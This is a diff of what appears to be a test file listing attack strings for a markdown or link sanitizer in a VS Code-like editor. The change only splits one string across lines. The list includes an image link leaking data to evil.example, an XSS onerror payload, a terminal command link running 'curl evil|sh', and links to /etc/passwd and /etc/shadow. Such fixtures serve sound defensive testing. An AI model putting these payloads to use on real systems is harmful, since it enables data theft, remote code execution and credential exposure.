@@ -29,7 +29,10 @@ ATTACKS = [
     "[a [b](file:///x)](command:y)",
     "See ![](https://evil.example/p.png?leak=c2VjcmV0) for details.",
     "Click <img src=x onerror=alert(1)> here.",
-    '<a href="command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%22%7D">run</a>',
+    (
+        '<a href="command:workbench.action.terminal.sendSequence'
+        '?%7B%22text%22%3A%22curl%20evil%7Csh%22%7D">run</a>'
+    ),
     "[open](command:workbench.action.files.openFile) and [home](https://evil.example/?q=1)",
     "<command:editor.action.foo> and <https://evil.example>",
     "[1](file:///etc/passwd) and [2]: file:///etc/shadow",
